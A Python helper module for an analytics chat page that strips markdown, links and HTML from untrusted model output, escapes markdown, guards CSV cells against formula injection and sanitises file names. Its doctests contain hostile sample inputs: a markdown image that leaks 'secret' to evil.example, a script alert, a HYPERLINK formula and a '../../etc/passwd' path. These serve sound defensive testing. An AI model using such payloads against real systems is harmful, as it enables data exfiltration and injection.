"""Pure helpers for the chat page: safe text, badges, tables, the catalog and example questions.

Nothing here imports Streamlit or does I/O, so every function is tested with doctests.
Text that came from a model, from the data or from a question is made inert here before
the page shows it: markdown images and links (which exfiltrate by URL) and HTML are
stripped, then the rest is escaped so Streamlit's markdown renders it literally.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Mapping, Sequence
from pathlib import PurePath
from typing import TYPE_CHECKING, Any, Final, NamedTuple

from lore.errors import LoreError
from lore.semantic.spec import METRIC_TIME, Metric, SemanticLayer
from lore.types import Answer, ChartSpec, ColumnMeta, Scalar

if TYPE_CHECKING:  # pragma: no cover
    from lore.plan.catalog import Catalog

# --- safe text --------------------------------------------------------------------------------

_IMAGE = re.compile(r"!\[[^\]]*\]\s*(\([^)]*\)|\[[^\]]*\])")
_LINK = re.compile(r"\[([^\]]*)\]\s*(\([^)]*\)|\[[^\]]*\])")
_REF_DEF = re.compile(r"^[ \t]*\[[^\]]+\]:\s*\S+.*$", re.MULTILINE)
_AUTOLINK = re.compile(r"<(?:[a-zA-Z][a-zA-Z0-9+.-]{1,31}:|www\.)[^>\s]*>")
_HTML_BLOCK = re.compile(r"<(script|style|iframe|object|embed|svg|math|template)\b.*?(</\1\s*>|$)",
                         re.IGNORECASE | re.DOTALL)
_HTML_TAG = re.compile(r"</?[a-zA-Z][^>]*>|<!--.*?(-->|$)", re.DOTALL)
_BARE_URL = re.compile(r"\b(?:(?:https?|ftp|file|data|javascript|mailto):|www\.)\S+", re.IGNORECASE)
_SPACES = re.compile(r"[ \t]+")
#: characters that mean something to (Streamlit's) markdown: escaped so text renders literally
_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-!|<>$~])")

URL_REMOVED: Final = "(link removed)"


def _visible(text: str) -> str:
    """Drop control and invisible format characters (zero-width, bidi overrides); keep newlines."""
    return "".join(ch if ch in "\n\t" or unicodedata.category(ch) not in ("Cc", "Cf") else "" for ch in text)


def strip_markup(text: str) -> str:
    """Remove markdown images, links, URLs and HTML from untrusted text, keeping its words.

    Images disappear (they load their URL as soon as they render); a link keeps its text
    but loses its target; HTML tags go, and so does the content of script-like elements.

    >>> strip_markup("EMEA leads ![x](https://evil.example/leak?q=secret) with 4,995 hours.")
    'EMEA leads with 4,995 hours.'
    >>> strip_markup("See [the docs](http://evil.example) or [ref][1].\\n[1]: http://evil.example")
    'See the docs or ref.'
    >>> strip_markup("<script>alert(1)</script>Hours <b>up</b> 5%")
    'Hours up 5%'
    >>> strip_markup("visit https://evil.example/x?d=1 now")
    'visit (link removed) now'
    >>> strip_markup("a\\u200bb <https://evil.example>")
    'ab'
    """
    out = _visible(text)
    out = _HTML_BLOCK.sub(" ", out)
    out = _IMAGE.sub(" ", out)
    out = _LINK.sub(lambda m: m.group(1), out)
    out = _REF_DEF.sub("", out)
    out = _AUTOLINK.sub(" ", out)
    out = _HTML_TAG.sub(" ", out)
    out = _BARE_URL.sub(URL_REMOVED, out)
    lines = [_SPACES.sub(" ", line).strip() for line in out.splitlines()]
    out = "\n".join(line for line in lines if line)
    return re.sub(r" ([.,;:!?)])", r"\1", out)


def escape_markdown(text: str) -> str:
    r"""Backslash-escape markdown syntax (also ``$``, which Streamlit reads as LaTeX).

    >>> escape_markdown("$3,861.54 (60% of the total) *up*")
    '\\$3,861.54 \\(60% of the total\\) \\*up\\*'
    """
    return _MD_SPECIAL.sub(r"\\\1", text)


def safe_markdown(text: str) -> str:
    r"""Untrusted text made safe for ``st.markdown``: markup stripped, the rest escaped.

    >>> safe_markdown("Cost **$2.36** ![](http://x.example/a.png)")
    'Cost \\*\\*\\$2.36\\*\\*'
    >>> "http" in safe_markdown("[click](http://evil.example)")
    False
    """
    return escape_markdown(strip_markup(text))


def plain(text: str) -> str:
    """Untrusted text for a widget label or a tooltip (rendered as text, but still stripped).

    >>> plain("premium ![a](http://x.example/p.png) accounts")
    'premium accounts'
    """
    return strip_markup(text)


# --- the confidence badge ---------------------------------------------------------------------


class Badge(NamedTuple):
    """What a confidence badge shows: its label, colour, icon and the tooltip with the factors."""

    label: str
    color: str
    icon: str
    help: str


#: readable names of the confidence factors (others are shown with underscores as spaces)
FACTOR_NAMES: Final[Mapping[str, str]] = {
    "metric": "metric match",
    "coverage": "question covered",
    "values": "values matched",
    "ambiguity": "no ambiguity",
    "context": "context from earlier turns",
    "execution": "query ran",
    "result": "result complete",
}

_BADGE_STYLE: Final[Mapping[str, tuple[str, str]]] = {
    "high": ("green", ":material/verified:"),
    "medium": ("orange", ":material/info:"),
    "low": ("red", ":material/warning:"),
}


def factor_lines(factors: Mapping[str, float]) -> list[str]:
    """The confidence factors as readable lines, weakest first.

    >>> factor_lines({"metric": 1.0, "coverage": 0.675})
    ['question covered: 0.68', 'metric match: 1.00']
    """
    items = sorted(factors.items(), key=lambda kv: (kv[1], kv[0]))
    return [f"{FACTOR_NAMES.get(k, k.replace('_', ' '))}: {v:.2f}" for k, v in items]


def confidence_badge(answer: Answer) -> Badge:
    """The badge of an answer: high, medium or low with the score, factors in the tooltip.

    >>> b = confidence_badge(Answer(id="a", question="q", status="answered", message="", confidence=0.9378,
    ...                             confidence_factors={"metric": 1.0, "coverage": 0.675}))
    >>> b.label, b.color
    ('High confidence · 0.94', 'green')
    >>> print(b.help)
    Confidence 0.94 (high), from these factors (1 is best):
    - question covered: 0.68
    - metric match: 1.00
    >>> confidence_badge(Answer(id="a", question="q", status="answered", message="", confidence=0.3)).color
    'red'
    """
    level = answer.confidence_label
    color, icon = _BADGE_STYLE[level]
    lines = [f"Confidence {answer.confidence:.2f} ({level}), from these factors (1 is best):"]
    lines += [f"- {line}" for line in factor_lines(answer.confidence_factors)]
    return Badge(label=f"{level.capitalize()} confidence · {answer.confidence:.2f}", color=color, icon=icon,
                 help="\n".join(lines))


# --- tables -----------------------------------------------------------------------------------

_FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Scalar) -> Scalar:
    """A cell for CSV: text that a spreadsheet would run as a formula is prefixed with a quote.

    >>> csv_cell("=HYPERLINK(\\"http://evil.example\\")")
    '\\'=HYPERLINK("http://evil.example")'
    >>> csv_cell(-3.5), csv_cell("EMEA"), csv_cell(None)
    (-3.5, 'EMEA', '')
    """
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def table_csv(columns: Sequence[ColumnMeta], rows: Iterable[Sequence[Scalar]]) -> bytes:
    """The result as CSV bytes (UTF-8 with a BOM so spreadsheets read accents), labels as headers.

    >>> cols = (ColumnMeta(name="region", label="Region"), ColumnMeta(name="t", label="Timing offset", unit="ms"))
    >>> table_csv(cols, [("EMEA", 4994.83), ("=1+1", None)]).decode("utf-8-sig").splitlines()
    ['Region,Timing offset (ms)', 'EMEA,4994.83', "'=1+1,"]
    """
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow([column_title(c) for c in columns])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return buf.getvalue().encode("utf-8-sig")


def column_title(column: ColumnMeta) -> str:
    """A column header: the label, with the unit when the format does not show it already.

    >>> column_title(ColumnMeta(name="c", label="Cloud cost", format="currency", unit="USD"))
    'Cloud cost'
    >>> column_title(ColumnMeta(name="t", label="Timing offset", unit="ms"))
    'Timing offset (ms)'
    >>> column_title(ColumnMeta(name="h", label="Streaming hours", unit="hours"))
    'Streaming hours'
    """
    label = plain(column.label or column.name) or column.name
    if column.unit and column.format not in ("currency", "percent") and column.unit.lower() not in label.lower():
        return f"{label} ({column.unit})"
    return label


def number_format(column: ColumnMeta) -> str | None:
    """The ``st.column_config.NumberColumn`` format for a column, or None for text columns.

    >>> number_format(ColumnMeta(name="x", label="X", kind="metric", format="percent"))
    'percent'
    >>> number_format(ColumnMeta(name="x", label="X", kind="metric", format="currency", unit="USD"))
    'dollar'
    >>> number_format(ColumnMeta(name="x", label="X", kind="metric", format="integer"))
    'localized'
    >>> number_format(ColumnMeta(name="r", label="Region", kind="dimension", type="VARCHAR")) is None
    True
    """
    numeric_type = (column.type or "").upper().split("(")[0] in (
        "BIGINT", "INTEGER", "INT", "SMALLINT", "TINYINT", "HUGEINT", "DOUBLE", "FLOAT", "REAL", "DECIMAL",
        "UBIGINT", "UINTEGER")
    if column.kind != "metric" and not numeric_type:
        return None
    if column.format == "percent":
        return "percent"
    if column.format == "currency":
        return {"USD": "dollar", "EUR": "euro", "JPY": "yen"}.get((column.unit or "USD").upper(), "localized")
    if column.format == "integer":
        return "localized"
    return "%,.2f" if column.kind == "metric" else "localized"


#: momentJS formats for a time column at each grain (``st.column_config.DateColumn``)
GRAIN_FORMATS: Final[Mapping[str, str]] = {
    "day": "MMM D, YYYY",
    "week": "[Week of] MMM D, YYYY",
    "month": "MMM YYYY",
    "quarter": "YYYY [Q]Q",
    "year": "YYYY",
}


def date_format(column: ColumnMeta) -> str | None:
    """The date format for a DATE column (by its time grain), or None for other columns.

    >>> date_format(ColumnMeta(name="month", label="Month", type="DATE", grain="month"))
    'MMM YYYY'
    >>> date_format(ColumnMeta(name="d", label="Day", type="DATE"))
    'MMM D, YYYY'
    >>> date_format(ColumnMeta(name="r", label="Region", type="VARCHAR")) is None
    True
    """
    if (column.type or "").upper() != "DATE":
        return None
    return GRAIN_FORMATS.get(column.grain or "day", GRAIN_FORMATS["day"])


# --- charts -----------------------------------------------------------------------------------


def answer_chart(answer: Answer) -> ChartSpec | None:
    """The answer's chart as a :class:`~lore.types.ChartSpec` (for the PNG export), or None.

    >>> answer_chart(Answer(id="a", question="q", status="answered", message="")) is None
    True
    >>> answer_chart(Answer(id="a", question="q", status="answered", message="", chart={"mark": "bar"},
    ...                     chart_kind="bar", chart_title="Hours by region")).title
    'Hours by region'
    """
    if not answer.chart or not answer.chart_kind or answer.chart_kind == "table":
        return None
    return ChartSpec(kind=answer.chart_kind, title=answer.chart_title or "", spec=answer.chart,  # type: ignore[arg-type]
                     reason="the chart of an answer")


def display_spec(spec: dict[str, Any], *, min_height: int = 180) -> dict[str, Any]:
    """A chart spec for the page: short bar charts get a little more height to breathe.

    Only the top-level numeric height changes; the data and encodings are untouched.

    >>> display_spec({"mark": "bar", "height": 120})["height"], display_spec({"height": 320})["height"]
    (180, 320)
    >>> display_spec({"mark": "bar"})
    {'mark': 'bar'}
    """
    height = spec.get("height")
    if isinstance(height, (int, float)) and not isinstance(height, bool) and height < min_height:
        return {**spec, "height": min_height}
    return spec


def sorted_rows(answer: Answer) -> tuple[tuple[Scalar, ...], ...]:
    """The rows in the order the chart shows them: a sorted bar chart's table is sorted by its metric, largest first.

    >>> cols = (ColumnMeta(name="r", label="Region", kind="dimension"), ColumnMeta(name="h", label="H", kind="metric"))
    >>> a = Answer(id="a", question="q", status="answered", message="", columns=cols, chart_kind="bar",
    ...            rows=(("APAC", 2.0), ("EMEA", 5.0), ("X", None)))
    >>> sorted_rows(a)
    (('EMEA', 5.0), ('APAC', 2.0), ('X', None))
    >>> sorted_rows(a.model_copy(update={"chart_kind": "line"}))[0]
    ('APAC', 2.0)
    """
    metric_at = next((i for i, c in enumerate(answer.columns) if c.kind == "metric"), None)
    if answer.chart_kind != "bar" or metric_at is None:
        return answer.rows

    def key(row: tuple[Scalar, ...]) -> tuple[bool, float]:
        value = row[metric_at]
        number = value if isinstance(value, (int, float)) and not isinstance(value, bool) else None
        return (number is None, -(number or 0.0))

    return tuple(sorted(answer.rows, key=key))


def file_stem(text: str, default: str = "lore-answer") -> str:
    """A safe file name stem from a chart title or a question.

    >>> file_stem("Streaming hours by region · premium · 2026")
    'streaming-hours-by-region-premium-2026'
    >>> file_stem("../../etc/passwd?")
    'etc-passwd'
    >>> file_stem("***")
    'lore-answer'
    """
    words = re.findall(r"[a-z0-9]+", unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode().lower())
    return "-".join(words)[:80].strip("-") or default


# --- the catalog ------------------------------------------------------------------------------


def domain_name(stem: str) -> str:
    """A readable domain from a file stem or an owner.

    >>> domain_name("asr"), domain_name("cloud_costs"), domain_name("growth-analytics")
    ('ASR', 'Cloud costs', 'Growth analytics')
    """
    words = re.sub(r"[_\-]+", " ", stem).strip()
    if len(words) <= 3:
        return words.upper()
    return words[:1].upper() + words[1:]


def metric_domain(layer: SemanticLayer, name: str) -> str:
    """The domain of a metric: the YAML file it is defined in (when there are several), else its owner.

    >>> layer = SemanticLayer(metrics={"h": Metric(name="h", owner="streaming-analytics", source="s", agg="sum")},
    ...                       locations={"metric:h": ("semantic/streaming.yaml", 3), "metric:c": ("cloud.yaml", 1)})
    >>> metric_domain(layer, "h")
    'Streaming'
    >>> metric_domain(layer.model_copy(update={"locations": {}}), "h")
    'Streaming analytics'
    """
    files = {loc[0] for key, loc in layer.locations.items() if key.startswith("metric:")}
    where = layer.locations.get(f"metric:{name}")
    if where and len(files) > 1:
        return domain_name(PurePath(where[0]).stem)
    metric = layer.metrics.get(name)
    return domain_name(metric.owner) if metric is not None and metric.owner else "Metrics"


def metrics_by_domain(layer: SemanticLayer, names: Iterable[str] | None = None) -> dict[str, list[str]]:
    """Metric names grouped by domain, domains in alphabetical order, metrics as declared."""
    groups: dict[str, list[str]] = {}
    for name in (layer.metrics if names is None else names):
        groups.setdefault(metric_domain(layer, name), []).append(name)
    return dict(sorted(groups.items()))


def metric_definition(metric: Metric) -> str:
    """A metric's definition in one line.

    >>> metric_definition(Metric(name="h", source="streaming_sessions", agg="sum", expr="streaming_hours"))
    'SUM(streaming_hours) over streaming_sessions'
    >>> metric_definition(Metric(name="r", expr="a / b"))
    'a / b'
    >>> metric_definition(Metric(name="n", source="s", agg="count", filter="kind = 'tv'"))
    "COUNT(*) over s where kind = 'tv'"
    """
    if metric.is_derived:
        return metric.expr
    text = f"{(metric.agg or 'sum').upper().replace('COUNT_DISTINCT', 'COUNT DISTINCT')}({metric.expr}) over {metric.source}"
    return text + (f" where {metric.filter}" if metric.filter else "")


class DimensionChoice(NamedTuple):
    ref: str
    label: str
    #: a good example: low cardinality (sample values or value synonyms declared)
    preferred: bool


def metric_dimensions(layer: SemanticLayer, catalog: Catalog, name: str) -> list[DimensionChoice]:
    """The categorical dimensions a metric can be broken down by, nearest nodes first.

    Only safe links count (no fan-out), the same rule the planner uses.
    """
    facts = catalog.facts_of([name])
    if not facts:
        return []
    hops: dict[str, int] = {}
    for fact in facts:
        for node, n in catalog.reach.get(fact, {}).items():
            if all(node in catalog.reach.get(f, {}) for f in facts):
                hops[node] = max(hops.get(node, 0), n)
    out: list[DimensionChoice] = []
    seen: set[str] = set()
    for node_name in sorted(hops, key=lambda n: (hops[n], list(layer.nodes).index(n))):
        node = layer.nodes[node_name]
        for col in node.columns:
            if col.kind not in ("categorical", "boolean") or col.unique:
                continue
            label = col.label or col.name.replace("_", " ")
            if label.lower() in seen:
                continue
            seen.add(label.lower())
            out.append(DimensionChoice(f"{node.name}.{col.name}", label, bool(col.sample_values or col.value_synonyms)))
    return out


def search_metrics(layer: SemanticLayer, query: str, dimension_labels: Mapping[str, Sequence[str]] | None = None) -> list[str]:
    """Metric names matching every word of a search (name, label, synonyms, description, owner, dimensions).

    >>> layer = SemanticLayer(metrics={
    ...     "h": Metric(name="h", label="streaming hours", synonyms=("watch time",), source="s", agg="sum"),
    ...     "c": Metric(name="c", label="cloud cost", owner="cloud-finops", source="s", agg="sum")})
    >>> search_metrics(layer, "watch"), search_metrics(layer, "FINOPS cost"), search_metrics(layer, "")
    (['h'], ['c'], ['h', 'c'])
    >>> search_metrics(layer, "region", {"h": ["region"]})
    ['h']
    """
    words = re.findall(r"\w+", query.lower())
    out = []
    for name, m in layer.metrics.items():
        hay = " ".join([name, m.label or "", m.description, m.owner or "", m.unit or "", *m.synonyms,
                        *(dimension_labels or {}).get(name, ())]).lower().replace("_", " ")
        if all(w in hay or w.replace("_", " ") in hay for w in words):
            out.append(name)
    return out


# --- example questions and clarifications -----------------------------------------------------


def _words(text: str) -> set[str]:
    return set(re.findall(r"[a-z0-9]+", text.lower().replace("_", " ")))


def dimension_phrase(layer: SemanticLayer, ref: str, metric: Metric) -> str:
    """How an example question names a dimension: its label, or the first synonym that cannot be
    mistaken for one of the column's values or for the metric itself.

    >>> from lore.semantic.spec import Node, Column
    >>> phase = Column(name="phase", label="production phase", synonyms=("phase",), sample_values=("production",))
    >>> layer = SemanticLayer(nodes={"c": Node(name="c", table="c", columns=(phase, Column(name="region")))})
    >>> dimension_phrase(layer, "c.phase", Metric(name="s", label="cash spend", source="c", agg="sum"))
    'phase'
    >>> dimension_phrase(layer, "c.region", Metric(name="s", label="cash spend", source="c", agg="sum"))
    'region'
    """
    node, _, attr = ref.partition(".")
    col = layer.nodes[node].column(attr)
    if col is None:
        return attr.replace("_", " ")
    values = set().union(*(_words(v) for v in (*col.sample_values, *col.value_synonyms)))
    avoid = values | _words(metric.display)
    candidates = [col.label or col.name.replace("_", " "), *col.synonyms]
    for text in candidates:
        if not (_words(text) & avoid):
            return text
    return candidates[0]


def example_questions(layer: SemanticLayer, catalog: Catalog, *, per_domain: int = 2) -> dict[str, list[str]]:
    """Example questions per domain, made from the layer: a metric's label by one of its dimensions.

    The first metrics of each domain are used, each with its nearest low-cardinality
    dimension, and the domain's first metric is also asked as a monthly trend.
    """
    out: dict[str, list[str]] = {}
    for domain, names in metrics_by_domain(layer).items():
        questions: list[str] = []
        for name in names:
            if len(questions) >= per_domain:
                break
            metric = layer.metrics[name]
            dims = metric_dimensions(layer, catalog, name)
            preferred = [d for d in dims if d.preferred] or dims
            if preferred:
                questions.append(f"{metric.display} by {dimension_phrase(layer, preferred[0].ref, metric)}")
        first = layer.metrics[names[0]]
        if any(layer.nodes[f].time_column for f in catalog.facts_of([names[0]])):
            questions.append(f"{first.display} by month")
        if questions:
            out[domain] = list(dict.fromkeys(questions))
    return out


def metric_example(layer: SemanticLayer, catalog: Catalog, name: str) -> str:
    """One question about a metric for its catalog entry: its trend by month, else by a dimension, else itself."""
    metric = layer.metrics[name]
    if any(layer.nodes[f].time_column for f in catalog.facts_of([name])):
        return f"{metric.display} by month"
    dims = metric_dimensions(layer, catalog, name)
    preferred = [d for d in dims if d.preferred] or dims
    return f"{metric.display} by {dimension_phrase(layer, preferred[0].ref, metric)}" if preferred else metric.display


def suggestion_label(layer: SemanticLayer, suggestion: str) -> str:
    """The button text of a clarifying suggestion: a metric's label, else the suggestion itself.

    >>> layer = SemanticLayer(metrics={"ua_spend": Metric(name="ua_spend", label="UA spend", source="s", agg="sum")})
    >>> suggestion_label(layer, "ua_spend"), suggestion_label(layer, "team")
    ('UA spend', 'team')
    """
    metric = layer.metrics.get(suggestion)
    return metric.display if metric is not None else plain(suggestion)


_BY_PHRASE = re.compile(
    r"\b(by|per|for each|across)\s+(?:the\s+)?([\w][\w\s\-]*?)"
    r"(?=\s+(?:in|for|from|during|over|since|last|this|between|before|after|where|with|only|excluding)\b|[,.;?!]|$)",
    re.IGNORECASE)


def dimension_labels(layer: SemanticLayer) -> set[str]:
    """Every attribute label (and name with spaces) of the layer, lower-case."""
    out = {METRIC_TIME}
    for node in layer.nodes.values():
        for col in node.columns:
            out.add((col.label or col.name).lower())
            out.add(col.name.replace("_", " ").lower())
    return out


def reask_question(layer: SemanticLayer, question: str, suggestion: str, status: str = "clarify") -> str:
    """The question to ask when a clarifying suggestion is chosen.

    A metric is named alongside the original words (the planner then grounds it); a
    dimension replaces the question's breakdown; any other value is named as meant.

    >>> from lore.semantic.spec import Node, Column
    >>> layer = SemanticLayer(
    ...     metrics={"ua_spend": Metric(name="ua_spend", label="UA spend", source="c", agg="sum")},
    ...     nodes={"c": Node(name="c", table="c", columns=(Column(name="service"),))})
    >>> reask_question(layer, "how many widgets did we sell by region in 2026", "ua_spend")
    'how many widgets did we sell by region in 2026, meaning UA spend'
    >>> reask_question(layer, "cloud cost by genre in 2026?", "service")
    'cloud cost by service in 2026?'
    >>> reask_question(layer, "cloud cost for Narnia", "service")
    'cloud cost for Narnia by service'
    >>> reask_question(layer, "streaming hours by cell", "trailer_autoplay_2026q2")
    'streaming hours by cell, meaning trailer_autoplay_2026q2'
    >>> reask_question(layer, "widgets", "ua_spend", status="refused")
    'UA spend'
    """
    q = question.strip()
    metric = layer.metrics.get(suggestion)
    if metric is not None:
        return metric.display if status == "refused" or not q else f"{q.rstrip('?.! ')}, meaning {metric.display}"
    text = plain(suggestion)
    if text.lower() in dimension_labels(layer):
        matches = list(_BY_PHRASE.finditer(q))
        if matches:
            m = matches[-1]
            return q[:m.start(2)] + text + q[m.end(2):]
        return f"{q.rstrip('?.! ')} by {text}"
    return f"{q.rstrip('?.! ')}, meaning {text}"


def feedback_key(answer_id: str, user: str, rating: int, comment: str, correction: str) -> str:
    """The idempotency key of one feedback submission: a retried submission is stored once.

    >>> k = feedback_key("a1", "ana", 1, "", "")
    >>> k == feedback_key("a1", "ana", 1, "", ""), k == feedback_key("a1", "ana", -1, "", ""), len(k)
    (True, False, 40)
    """
    import hashlib
    import json

    payload = json.dumps([answer_id, user, rating, comment, correction], ensure_ascii=False)
    return "ui-" + hashlib.sha256(payload.encode()).hexdigest()[:37]


# --- errors and progress ----------------------------------------------------------------------

#: what each pipeline stage does, in words a business user reads while waiting
STAGE_LABELS: Final[Mapping[str, str]] = {
    "retrieve": "Finding the relevant metric definitions",
    "plan": "Planning the query",
    "compile": "Writing the SQL from the definitions",
    "guard": "Checking the SQL is safe",
    "execute": "Running the query",
    "chart": "Drawing the chart",
    "explain": "Explaining the answer",
}


def stage_lines(timings: Iterable[Any]) -> list[str]:
    """One line per pipeline stage that ran, with its time.

    >>> from lore.types import StageTiming
    >>> stage_lines([StageTiming(stage="plan", ms=3.2), StageTiming(stage="execute", ms=1520.0)])
    ['Planning the query · 3 ms', 'Running the query · 1.52 s']
    """
    out = []
    for t in timings:
        took = f"{t.ms / 1000:.2f} s" if t.ms >= 1000 else f"{t.ms:.0f} ms"
        out.append(f"{STAGE_LABELS.get(t.stage, t.stage)} · {took}")
    return out


class FriendlyError(NamedTuple):
    title: str
    detail: str
    hint: str


_AUDIENCE_TITLES: Final[Mapping[str, str]] = {
    "operator": "LORE is not set up yet",
    "metric_owner": "The metric definitions need fixing",
    "asker": "I couldn't answer that",
    "guard": "That query was refused for safety",
    "engine": "The query could not run",
}


def friendly_error(err: LoreError) -> FriendlyError:
    """A LORE error as a title for its audience, the message, and what to do next.

    >>> from lore.errors import ProjectNotFound
    >>> e = friendly_error(ProjectNotFound("No LORE project at /x (missing lore.yaml)", hint="Run lore demo init /x"))
    >>> e.title, e.detail, e.hint
    ('LORE is not set up yet', 'No LORE project at /x (missing lore.yaml)', 'Run lore demo init /x')
    """
    return FriendlyError(_AUDIENCE_TITLES.get(err.audience, "Something went wrong"),
                         plain(err.message), plain(err.hint or ""))
